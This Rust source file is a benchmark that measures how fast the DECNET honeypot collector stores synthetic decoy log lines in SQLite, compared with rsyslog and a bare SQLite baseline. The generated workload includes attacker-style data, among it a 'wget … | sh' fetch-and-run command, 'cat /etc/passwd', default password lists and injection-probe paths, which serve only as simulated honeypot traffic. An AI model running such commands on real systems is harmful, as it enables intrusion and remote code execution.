//! `cargo xtask bench collector`: does `decnet collect` store decoy lines into SQLite at least as
//! fast as rsyslog writes them to a flat file?
//!
//! N realistic decoy lines (RFC 5424, ≈200 bytes, the original DECNET formats: logins with
//! credentials, HTTP requests, connects/disconnects, shell commands; 10 deckies, 1,000 attackers)
//! are framed with octet counting and split over K TCP clients on loopback. Each phase starts a
//! fresh receiver, connects the K clients, then releases them at once; the clock runs from the
//! first byte sent until:
//!
//! - decnet: the clients have sent everything and seen the collector close their connections
//!   (it has read everything), then SIGTERM, and the collector has exited after storing every
//!   line (its summary must say `stored + duplicates == N`);
//! - rsyslog: a private `rsyslogd` (imtcp → omfile, template RSYSLOG_SyslogProtocol23Format, the
//!   full line) has written N lines to its file.
//!
//! - sqlite: the engine alone, as the baseline for decnet's own store: the rows decnet stored
//!   (read back from its database, byte for byte, before the clock starts) inserted into a fresh
//!   database with the same schema (copied from decnet's) through one prepared statement reused
//!   in 10,000-row transactions (rusqlite; WAL, synchronous=NORMAL and the page cache decnet
//!   uses). It writes only `events`; decnet also counts the credential attempts.
//!
//! Phases alternate (decnet, sqlite, rsyslog, decnet, …) for `--rounds`; each prints messages/s,
//! CPU seconds and peak RSS (wait4; the sqlite phase's CPU is its thread's). Stored bytes per
//! message are the database after a WAL checkpoint over N (indexes and every table included);
//! the `events` table and its indexes alone are given too (SQLite's dbstat). The end gives the
//! medians, the ratios decnet/sqlite and decnet/rsyslog and whether the aims were met.
use std::{
    io::Read as _,
    net::{Shutdown, SocketAddr, TcpStream},
    path::Path,
    sync::{Arc, Barrier},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail, ensure};
use decnet_e2e::collector::{self, Collector, CollectorOptions, Framing, Rsyslogd, Usage};

struct Args {
    messages: usize,
    clients: usize,
    rounds: usize,
    decnet_args: Vec<String>,
}

fn parse_args() -> Result<Args> {
    let mut a = Args {
        messages: 500_000,
        clients: 4,
        rounds: 1,
        decnet_args: Vec::new(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        let mut val = |name: &str| it.next().with_context(|| format!("{name} needs a value"));
        match arg.as_str() {
            "--messages" => {
                a.messages = val("--messages")?.parse().context("--messages: a count")?
            }
            "--clients" => a.clients = val("--clients")?.parse().context("--clients: a count")?,
            "--rounds" => a.rounds = val("--rounds")?.parse().context("--rounds: a count")?,
            "--decnet-arg" => a.decnet_args.push(val("--decnet-arg")?),
            "-h" | "--help" => {
                println!(
                    "bench-collector [--messages N (500000)] [--clients K (4)] [--rounds R (1)] \
                     [--decnet-arg ARG]...\n\
                     Sends N decoy lines (≈200 B, octet-counted) from K TCP clients on loopback to \
                     `decnet collect` (SQLite) and to a private rsyslogd (omfile), alternating R \
                     times, and compares messages/s. --decnet-arg passes one argument to `decnet \
                     collect` (e.g. --decnet-arg --batch --decnet-arg 5000). Needs DECNET_BIN (or \
                     target/release/decnet) and rsyslogd (`cargo xtask bench collector` provides \
                     both)."
                );
                std::process::exit(0);
            }
            other => bail!("unknown argument {other:?} (try --help)"),
        }
    }
    ensure!(
        a.messages > 0 && a.clients > 0 && a.rounds > 0,
        "--messages, --clients and --rounds must be positive"
    );
    Ok(a)
}

// ---------------------------------------------------------------------------------------------
// The workload

const DECKIES: [&str; 10] = [
    "web-01",
    "web-02",
    "omega-decky",
    "files-01",
    "mail-01",
    "db-01",
    "vpn-gw",
    "dc-01",
    "printer-3",
    "cam-07",
];
const USERS: [&str; 12] = [
    "root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "pi", "guest", "ftp", "git",
    "support",
];
const PASSWORDS: [&str; 16] = [
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "qwerty",
    "P@ssw0rd",
    "letmein",
    "toor",
    "changeme",
    "raspberry",
    "1q2w3e4r",
    "welcome1",
    "default",
    "abc123",
    "Passw0rd!",
];
const PATHS: [&str; 8] = [
    "/",
    "/admin",
    "/wp-login.php",
    "/.env",
    "/phpmyadmin/index.php",
    "/cgi-bin/luci",
    "/api/v1/users?id=1%27",
    "/login?next=%2F",
];
const AGENTS: [&str; 6] = [
    "Mozilla/5.0 zgrab/0.x",
    "sqlmap/1.7.2#stable",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Nuclei - Open-source project",
    "masscan/1.3",
];
const COMMANDS: [&str; 6] = [
    "uname -a",
    "cat /etc/passwd",
    "wget http://198.51.100.3/x.sh -O- | sh",
    "cd /tmp; ls -la",
    "nproc; free -m",
    "echo \\\"ok\\\"",
];

fn base64(input: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in input.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(T[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Line `i` of the workload: distinct for every `i` (timestamp and source port).
fn decoy_line(i: usize) -> String {
    // A cheap deterministic mix.
    let h = (i as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 16;
    let decky = DECKIES[(h % 10) as usize];
    let a = (h >> 8) % 1000;
    let ip = format!("203.0.{}.{}", 113 + a / 250, a % 250 + 1);
    let port = 1024 + (i % 64_000);
    let us = i % 1_000_000;
    let secs = i / 1_000_000;
    let ts = format!(
        "2026-05-02T{:02}:{:02}:{:02}.{us:06}+00:00",
        6 + secs / 3600,
        (secs / 60) % 60,
        secs % 60
    );
    let head = |service: &str, msgid: &str| format!("<134>1 {ts} {decky} {service} - {msgid} ");
    // Every decoy line carries its session id (≈200 bytes a line with it).
    let session = format!(" session=\"{:012x}\"]", h & 0xffff_ffff_ffff);
    match h % 20 {
        0..=5 => {
            let user = USERS[((h >> 20) % 12) as usize];
            let pass = PASSWORDS[((h >> 24) % 16) as usize];
            format!(
                "{}[relay@55555 principal=\"{user}\" secret_printable=\"{pass}\" secret_b64=\"{}\" \
                 secret_kind=\"password\" src_ip=\"{ip}\" src_port=\"{port}\"{session}",
                head("ssh", "auth_attempt"),
                base64(pass.as_bytes())
            )
        }
        6..=10 => format!(
            "{}[relay@55555 src_ip=\"{ip}\" src_port=\"{port}\" method=\"GET\" path=\"{}\" \
             headers=\"{{\\\"User-Agent\\\":\\\"{}\\\"}}\"{session}",
            head("http", "request"),
            PATHS[((h >> 20) % 8) as usize],
            AGENTS[((h >> 24) % 6) as usize]
        ),
        11..=13 => format!(
            "{}[relay@55555 src_ip=\"{ip}\" src_port=\"{port}\"{session} connection from {ip}",
            head(
                ["smtp", "ftp", "telnet"][((h >> 20) % 3) as usize],
                "connect"
            )
        ),
        14..=16 => format!(
            "{}[relay@55555 src_ip=\"{ip}\" src_port=\"{port}\" duration=\"{}.{:03}\"{session}",
            head(
                ["smtp", "ftp", "telnet"][((h >> 20) % 3) as usize],
                "disconnect"
            ),
            (h >> 24) % 60,
            (h >> 30) % 1000
        ),
        _ => format!(
            "{}[relay@55555 src_ip=\"{ip}\" src_port=\"{port}\" cmd=\"{}\"{session} pid {}",
            head("ssh", "command"),
            COMMANDS[((h >> 20) % 6) as usize],
            (h >> 28) % 100_000
        ),
    }
}

/// The framed byte stream of each client (message `i` goes to client `i % clients`).
fn build_streams(messages: usize, clients: usize) -> (Vec<Vec<u8>>, u64) {
    let mut streams = vec![Vec::new(); clients];
    let mut bytes = 0u64;
    for i in 0..messages {
        let line = decoy_line(i);
        bytes += line.len() as u64;
        collector::frame_into(
            &mut streams[i % clients],
            line.as_bytes(),
            Framing::OctetCounting,
        );
    }
    (streams, bytes)
}

// ---------------------------------------------------------------------------------------------
// Phases

struct PhaseResult {
    secs: f64,
    usage: Usage,
    note: String,
    /// Database bytes (after a checkpoint) and those of `events` and its indexes.
    bytes: Option<(u64, Option<u64>)>,
}

impl PhaseResult {
    fn rate(&self, n: usize) -> f64 {
        n as f64 / self.secs
    }
}

/// Connects every client, releases them together; returns the instant of the release (the first
/// byte) and the client threads. With `wait_close` each client, after sending, waits for the
/// server to close its connection.
fn send_all(
    addr: SocketAddr,
    streams: &Arc<Vec<Vec<u8>>>,
    wait_close: bool,
) -> Result<(Instant, Vec<std::thread::JoinHandle<Result<()>>>)> {
    let barrier = Arc::new(Barrier::new(streams.len() + 1));
    let mut handles = Vec::new();
    for k in 0..streams.len() {
        let mut s = TcpStream::connect(addr).with_context(|| format!("connecting to {addr}"))?;
        s.set_nodelay(true)?;
        let barrier = Arc::clone(&barrier);
        let streams = Arc::clone(streams);
        handles.push(std::thread::spawn(move || -> Result<()> {
            barrier.wait();
            std::io::Write::write_all(&mut s, &streams[k]).context("sending")?;
            s.shutdown(Shutdown::Write)?;
            if wait_close {
                s.set_read_timeout(Some(Duration::from_secs(600)))?;
                let mut buf = [0u8; 1024];
                while s
                    .read(&mut buf)
                    .context("waiting for the server to close")?
                    > 0
                {}
            }
            Ok(())
        }));
    }
    barrier.wait();
    Ok((Instant::now(), handles))
}

fn join_all(handles: Vec<std::thread::JoinHandle<Result<()>>>) -> Result<()> {
    for h in handles {
        h.join()
            .map_err(|_| anyhow::anyhow!("a client thread panicked"))??;
    }
    Ok(())
}

/// The decnet phase and, on the rows it stored, the sqlite baseline phase.
fn run_decnet(args: &Args, streams: &Arc<Vec<Vec<u8>>>) -> Result<(PhaseResult, PhaseResult)> {
    let mut c = Collector::start(&CollectorOptions {
        udp: 0,
        tcp: 1,
        extra_args: args.decnet_args.clone(),
        ..Default::default()
    })?;
    let (t0, handles) = send_all(c.tcp_addr(), streams, true)?;
    join_all(handles)?;
    let sent_secs = t0.elapsed().as_secs_f64();
    let out = c.stop_within(Duration::from_secs(600))?;
    let secs = t0.elapsed().as_secs_f64();
    let s = &out.summary;
    let rows = c.count_events()?;
    let n = args.messages as u64;
    let complete = s.stored + s.duplicates == n && rows == s.stored;
    let note = format!(
        "sent in {sent_secs:.2} s; stored {} duplicates {} rejected {} rows {rows} batches {} \
         queue_depth_max {} DB {:.0} MB{}",
        s.stored,
        s.duplicates,
        s.rejected_total(),
        s.batches,
        s.queue_depth_max,
        dir_size(&c.dir) as f64 / 1e6,
        if complete {
            String::new()
        } else {
            format!("  INCOMPLETE: stored + duplicates != {n} sent")
        }
    );
    ensure!(
        complete,
        "decnet did not store every line: {note}\nsummary: {}",
        out.summary_json
    );
    let bytes = db_bytes(&c.db)?;
    let baseline = run_sqlite(&c.db, &c.dir.join("baseline.db"))?;
    Ok((
        PhaseResult {
            secs,
            usage: out.usage,
            note,
            bytes: Some(bytes),
        },
        baseline,
    ))
}

/// The database's size after a WAL checkpoint, and that of `events` with its indexes (dbstat).
fn db_bytes(db: &Path) -> Result<(u64, Option<u64>)> {
    let conn =
        rusqlite::Connection::open(db).with_context(|| format!("opening {}", db.display()))?;
    conn.busy_timeout(Duration::from_secs(30))?;
    conn.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()))?;
    let total = std::fs::metadata(db)?.len();
    let events = conn
        .query_row(
            "SELECT SUM(pgsize) FROM dbstat WHERE name = 'events' OR name IN \
             (SELECT name FROM sqlite_master WHERE tbl_name = 'events' AND type = 'index')",
            [],
            |r| r.get::<_, i64>(0),
        )
        .ok()
        .map(|v| v as u64);
    if events.is_none() {
        eprintln!("bench-collector: SQLite's dbstat is not available: no per-table bytes");
    }
    Ok((total, events))
}

type Row = (
    i64,
    String,
    String,
    String,
    Option<String>,
    Option<i64>,
    Option<String>,
    Vec<u8>,
    i64,
);

/// SQLite alone: decnet's stored rows into a fresh `dst` with `src`'s `events` schema.
fn run_sqlite(src: &Path, dst: &Path) -> Result<PhaseResult> {
    let conn = rusqlite::Connection::open(src)?;
    let schema: Vec<String> = conn
        .prepare(
            "SELECT sql FROM sqlite_master WHERE tbl_name = 'events' AND sql IS NOT NULL \
             ORDER BY type = 'index', name",
        )?
        .query_map([], |r| r.get(0))?
        .collect::<Result<_, _>>()?;
    let rows: Vec<Row> = conn
        .prepare(
            "SELECT ts, decky, service, event_type, attacker_ip, attacker_port, fields, raw, \
             dedup_key FROM events ORDER BY id",
        )?
        .query_map([], |r| {
            Ok((
                r.get(0)?,
                r.get(1)?,
                r.get(2)?,
                r.get(3)?,
                r.get(4)?,
                r.get(5)?,
                r.get(6)?,
                r.get(7)?,
                r.get(8)?,
            ))
        })?
        .collect::<Result<_, _>>()?;
    drop(conn);
    let mut out = rusqlite::Connection::open(dst)?;
    out.execute_batch(
        "PRAGMA journal_mode = WAL; PRAGMA synchronous = NORMAL; PRAGMA cache_size = -32768; \
         PRAGMA wal_autocheckpoint = 10000",
    )?;
    for sql in &schema {
        out.execute_batch(sql)?;
    }
    let insert = "INSERT INTO events (ts, decky, service, event_type, attacker_ip, \
                  attacker_port, fields, raw, dedup_key) VALUES (?,?,?,?,?,?,?,?,?) \
                  ON CONFLICT DO NOTHING";
    let cpu0 = thread_cpu_s();
    let t0 = Instant::now();
    let mut stored = 0usize;
    for chunk in rows.chunks(10_000) {
        let tx = out.transaction()?;
        {
            let mut stmt = tx.prepare_cached(insert)?;
            for r in chunk {
                stored += stmt.execute((r.0, &r.1, &r.2, &r.3, &r.4, r.5, &r.6, &r.7, r.8))?;
            }
        }
        tx.commit()?;
    }
    let secs = t0.elapsed().as_secs_f64();
    let cpu_s = thread_cpu_s() - cpu0;
    drop(out);
    ensure!(
        stored == rows.len(),
        "sqlite stored {stored} of {} rows",
        rows.len()
    );
    let bytes = db_bytes(dst)?;
    Ok(PhaseResult {
        secs,
        usage: Usage { cpu_s, max_rss: 0 },
        note: format!("{} rows", rows.len()),
        bytes: Some(bytes),
    })
}

/// This thread's CPU time in seconds.
fn thread_cpu_s() -> f64 {
    let mut t = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: a valid out-pointer.
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut t) };
    t.tv_sec as f64 + t.tv_nsec as f64 * 1e-9
}

fn dir_size(dir: &Path) -> u64 {
    std::fs::read_dir(dir)
        .map(|rd| {
            rd.flatten()
                .filter_map(|e| e.metadata().ok())
                .map(|m| m.len())
                .sum()
        })
        .unwrap_or(0)
}

/// Counts LFs appended to `path` since the last call.
struct LineCounter {
    file: Option<std::fs::File>,
    lines: u64,
    buf: Vec<u8>,
}

impl LineCounter {
    fn poll(&mut self, path: &Path) -> Result<u64> {
        if self.file.is_none() {
            self.file = std::fs::File::open(path).ok();
        }
        if let Some(f) = &mut self.file {
            loop {
                let n = f.read(&mut self.buf)?;
                if n == 0 {
                    break;
                }
                self.lines += self.buf[..n].iter().filter(|&&b| b == b'\n').count() as u64;
            }
        }
        Ok(self.lines)
    }
}

fn run_rsyslog(args: &Args, streams: &Arc<Vec<Vec<u8>>>) -> Result<PhaseResult> {
    let port = collector::free_port("tcp")?;
    let config = format!(
        r#"module(load="imtcp")
input(type="imtcp" address="127.0.0.1" port="{port}" ruleset="bench")
ruleset(name="bench") {{
  action(type="omfile" file="{{dir}}/messages.log" template="RSYSLOG_SyslogProtocol23Format")
}}
"#
    );
    let mut rs = Rsyslogd::start(&config, &[("tcp", port)])?;
    let out_file = rs.dir.join("messages.log");
    let mut counter = LineCounter {
        file: None,
        lines: 0,
        buf: vec![0u8; 1 << 20],
    };
    let n = args.messages as u64;
    let (t0, handles) = send_all(SocketAddr::from(([127, 0, 0, 1], port)), streams, false)?;
    let deadline = t0 + Duration::from_secs(600);
    let secs = loop {
        if counter.poll(&out_file)? >= n {
            break t0.elapsed().as_secs_f64();
        }
        ensure!(
            Instant::now() < deadline,
            "rsyslogd wrote {} of {n} lines in 600 s\nlog:\n{}",
            counter.lines,
            rs.logs()
        );
        std::thread::sleep(Duration::from_millis(5));
    };
    join_all(handles)?;
    let usage = rs.stop()?;
    let lines = counter.poll(&out_file)?;
    let size = std::fs::metadata(&out_file).map(|m| m.len()).unwrap_or(0);
    ensure!(
        lines == n,
        "rsyslogd wrote {lines} lines, expected {n}\nlog:\n{}",
        rs.logs()
    );
    Ok(PhaseResult {
        secs,
        usage,
        note: format!("{lines} lines, file {:.0} MB", size as f64 / 1e6),
        bytes: None,
    })
}

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(f64::total_cmp);
    let m = v.len() / 2;
    if v.len() % 2 == 1 {
        v[m]
    } else {
        (v[m - 1] + v[m]) / 2.0
    }
}

fn main() -> Result<()> {
    let args = parse_args()?;
    let bin = collector::collect_bin()?;
    collector::rsyslogd_bin()?;
    let (streams, bytes_total) = build_streams(args.messages, args.clients);
    let streams = Arc::new(streams);
    println!(
        "bench-collector: {} messages (mean {:.0} B, {:.1} MB framed) from {} TCP clients \
         (octet counting) on 127.0.0.1, {} round(s); decnet = {} collect (SQLite, defaults{}); \
         sqlite = decnet's rows and schema through one prepared statement, 10k-row transactions; \
         rsyslog = rsyslogd imtcp → omfile (RSYSLOG_SyslogProtocol23Format, defaults); {} CPUs",
        args.messages,
        bytes_total as f64 / args.messages as f64,
        streams.iter().map(|s| s.len()).sum::<usize>() as f64 / 1e6,
        args.clients,
        args.rounds,
        bin.display(),
        if args.decnet_args.is_empty() {
            String::new()
        } else {
            format!(" + {}", args.decnet_args.join(" "))
        },
        std::thread::available_parallelism().map_or(0, |n| n.get()),
    );
    println!(
        "{:<6} {:<8} {:>10} {:>9} {:>8} {:>10} {:>8} {:>8}  notes",
        "round", "phase", "msgs/s", "secs", "CPU s", "max RSS", "B/msg", "ev B/msg"
    );
    let n = args.messages as f64;
    let (mut d_rates, mut s_rates, mut r_rates) = (Vec::new(), Vec::new(), Vec::new());
    let (mut d_cpu, mut s_cpu, mut d_rss) = (Vec::new(), Vec::new(), 0u64);
    let (mut d_bytes, mut d_ev_bytes, mut s_bytes) = (Vec::new(), Vec::new(), Vec::new());
    let show = |round: usize, phase: &str, r: &PhaseResult| {
        let (b, ev) = match r.bytes {
            Some((t, e)) => (
                format!("{:.0}", t as f64 / n),
                e.map_or("-".into(), |e| format!("{:.0}", e as f64 / n)),
            ),
            None => ("-".into(), "-".into()),
        };
        println!(
            "{round:<6} {phase:<8} {:>10.0} {:>9.2} {:>8.2} {:>7.1} MB {b:>8} {ev:>8}  {}",
            r.rate(args.messages),
            r.secs,
            r.usage.cpu_s,
            r.usage.max_rss as f64 / 1e6,
            r.note
        );
    };
    for round in 1..=args.rounds {
        let (d, base) = run_decnet(&args, &streams)?;
        show(round, "decnet", &d);
        show(round, "sqlite", &base);
        let r = run_rsyslog(&args, &streams)?;
        show(round, "rsyslog", &r);
        d_rates.push(d.rate(args.messages));
        d_cpu.push(d.usage.cpu_s);
        d_rss = d_rss.max(d.usage.max_rss);
        if let Some((t, e)) = d.bytes {
            d_bytes.push(t as f64 / n);
            if let Some(e) = e {
                d_ev_bytes.push(e as f64 / n);
            }
        }
        if let Some((t, _)) = base.bytes {
            s_bytes.push(t as f64 / n);
        }
        s_rates.push(base.rate(args.messages));
        s_cpu.push(base.usage.cpu_s);
        r_rates.push(r.rate(args.messages));
    }
    let (d, sq, r) = (median(d_rates), median(s_rates), median(r_rates));
    let cpu_us = median(d_cpu.clone()) * 1e6 / n;
    let bytes = median(d_bytes);
    let raw = bytes_total as f64 / n;
    println!(
        "median: decnet {d:.0} msgs/s, sqlite {sq:.0} rows/s, rsyslog {r:.0} msgs/s; \
         decnet/sqlite {:.2}, decnet/rsyslog {:.2}; decnet CPU {:.2} s per run ({cpu_us:.2} \
         µs/message; sqlite alone {:.2} µs/row), max RSS {:.1} MB; stored {bytes:.0} B/message \
         ({:.2}× the {raw:.0}-byte line; events with indexes {} B; sqlite alone {:.0} B)",
        d / sq,
        d / r,
        median(d_cpu),
        median(s_cpu) * 1e6 / n,
        d_rss as f64 / 1e6,
        bytes / raw,
        if d_ev_bytes.is_empty() {
            "-".to_owned()
        } else {
            format!("{:.0}", median(d_ev_bytes))
        },
        median(s_bytes),
    );
    let aim = |ok: bool| if ok { "MET" } else { "NOT met" };
    println!(
        "aims: decnet ≥ 0.9× sqlite alone: {}; ≥ 200k msgs/s: {}; CPU ≤ 5 µs/message: {}; \
         stored ≤ 2× the line: {}",
        aim(d >= 0.9 * sq),
        aim(d >= 200_000.0),
        aim(cpu_us <= 5.0),
        aim(bytes <= 2.0 * raw),
    );
    Ok(())
}
